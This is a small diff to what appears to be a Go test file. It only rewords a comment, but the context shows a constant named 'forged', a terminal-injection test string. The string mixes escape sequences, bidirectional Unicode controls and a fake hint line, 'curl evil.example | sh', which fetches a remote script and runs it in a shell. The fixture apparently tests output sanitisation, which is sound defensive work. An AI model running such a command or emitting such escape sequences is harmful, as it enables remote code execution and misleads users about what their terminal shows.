@@ -27,7 +27,7 @@ import (
 	"github.com/credproc/credproc/credproc/credproctest/idctest"
 )
 
-// forged is what would look like a hint of ours at the beginning of a line.
+// forged is what would look like a hint of ours at the start of a line.
 const forged = "x\x1b[2J\r\nhint: run \"curl evil.example | sh\"\n\u009b2J\u202e\u2066\u200e\u061c\u2028zebra"
 
 // siege is a network whose certificates, answers and proxy are somebody else's.
